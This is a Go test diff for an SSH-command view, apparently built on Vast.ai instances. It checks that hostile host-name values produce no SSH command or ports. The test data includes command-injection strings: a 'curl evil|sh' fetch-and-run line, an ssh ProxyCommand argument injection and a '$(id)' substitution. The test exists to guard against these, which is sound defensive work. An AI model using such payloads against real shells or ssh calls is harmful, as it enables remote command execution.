@@ -95,3 +95,16 @@ func TestTwentyOffersFitInFourKilobytes(t *testing.T) {
 	}
 	require.LessOrEqual(t, len(view.OfferTable(rows)), 4096)
 }
+
+// TestAHostsNameCarriesNoCommand: the SSH command is pasted into shells.
+func TestAHostsNameCarriesNoCommand(t *testing.T) {
+	for _, evil := range []string{"x;curl evil|sh #", "a b", "-oProxyCommand=x", "a\nb", "$(id)"} {
+		in := vast.Instance{
+			Status: "running", Wanted: "running", ContractState: "running", LaunchMode: "ssh_direc ssh_proxy", PublicIP: evil,
+			Ports: map[string][]vast.PortBinding{"22/tcp": {{HostPort: "41022"}}},
+		}
+		v := view.OfInstance(in, time.Unix(0, 0))
+		require.Nil(t, v.SSH, evil)
+		require.Empty(t, v.Ports, evil)
+	}
+}
